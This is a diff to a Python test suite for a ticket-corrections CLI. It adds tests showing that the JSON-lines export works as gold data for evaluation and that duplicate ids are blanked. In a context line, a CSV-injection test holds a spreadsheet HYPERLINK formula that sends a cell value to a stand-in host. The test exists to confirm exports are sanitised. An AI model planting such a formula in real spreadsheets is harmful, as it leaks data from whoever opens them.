@@ -485,6 +485,31 @@ class TestStore:
         (row,) = csv.DictReader(io.StringIO(cli.ok("corrections", "list", "--format", "csv").stdout))
         assert [row] == listed(cli)
 
+    def test_the_list_as_json_lines_is_gold_for_an_evaluation(self, cli: CLI, report: Path) -> None:
+        correct(report, T1=("Hardware", "Stolen Device"), T4=("Other", "General Inquiry"))
+        check(report, "T-3")
+        cli.ok("corrections", "import", str(report))
+        correct(report, T1=("Hardware", "Laptop Repair"))
+        cli.ok("corrections", "import", str(report))
+        gold = cli.ok("corrections", "list", "--format", "jsonl").stdout
+        rows = [json.loads(line) for line in gold.splitlines()]
+        assert [(row["id"], row["request_type"], row["decision"]) for row in rows] == [
+            ("T-1", "Laptop Repair", "corrected"),
+            ("T-3", "SaaS Platform Access (Jira/Salesforce)", "confirmed"),
+            ("T-4", "General Inquiry", "corrected"),
+        ]
+        assert rows[0]["long_description"] == "The account is locked."
+        (cli.folder / "gold.jsonl").write_text(gold)
+        catalog = str(DATA / "catalog.yaml")
+        result = cli.ok("evaluate", "gold.jsonl", "--catalog", catalog, "--classifier", "offline", "--format", "json")
+        assert len(json.loads(result.stdout)["tickets"]) == 3
+
+    def test_gold_names_no_id_twice(self, cli: CLI) -> None:
+        write_first_version(cli.folder / "old.db", ("1", "T-1"), ("2", "T-2"), ("3", "T-2"), ("4", ""))
+        cli.settings["CORRECTIONS_DB_PATH"] = "old.db"
+        lines = cli.ok("corrections", "list", "--format", "jsonl").stdout.splitlines()
+        assert [json.loads(line)["id"] for line in lines] == ["T-1", "", ""]
+
     def test_a_csv_list_holds_no_formula(self, cli: CLI, report: Path) -> None:
         correct(report, T1=("Hardware", "Laptop Repair"))
         formula = '=HYPERLINK("https://example.com/?leak="&A1,"look")'
